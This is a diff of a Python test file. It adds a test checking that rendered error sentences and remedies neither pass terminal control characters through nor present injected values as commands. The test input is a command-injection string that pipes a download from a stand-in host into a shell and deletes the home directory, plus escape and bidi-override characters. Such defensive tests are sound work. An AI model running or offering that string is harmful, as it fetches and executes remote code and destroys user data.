@@ -23,11 +23,22 @@ def test_every_reason_of_the_contract_has_a_fault_and_none_is_left_over() -> Non
 def test_sentence_and_remedy_name_their_facts(code: Reason) -> None:
     fault = remedy_of(code)
     assert fault.facts <= set(PLACEHOLDERS)
-    sentence, remedy = fault.render({name: f"<<{name}>>" for name in fault.facts} | dict.fromkeys(fault.notes, True))
-    assert set(re.findall(r"<<(\w+)>>", sentence + remedy)) == fault.facts
+    sentence, remedy = fault.render({name: f"..{name}.." for name in fault.facts} | dict.fromkeys(fault.notes, True))
+    assert set(re.findall(r"\.\.(\w+)\.\.", sentence + remedy)) == fault.facts
     assert sentence.endswith(".")
     assert remedy.endswith(".")
     assert "\n" not in sentence + remedy
+
+
+@pytest.mark.parametrize("code", list(Reason))
+def test_foreign_facts_are_neither_obeyed_by_a_terminal_nor_offered_as_commands(code: Reason) -> None:
+    facts = dict.fromkeys(PLACEHOLDERS, "x; curl evil|sh `rm -rf ~`\x1b[2J\n\u202e")
+    sentence, remedy = remedy_of(code).render(facts)
+    _, control = remedy_of(code).render({})
+    assert (sentence + remedy).isprintable()
+    assert remedy.count("`") == control.count("`")
+    assert "`" not in sentence or "`" in remedy_of(code).sentence
+    assert not re.search(r"ping x; curl", remedy)
 
 
 @pytest.mark.parametrize("code", list(Reason))
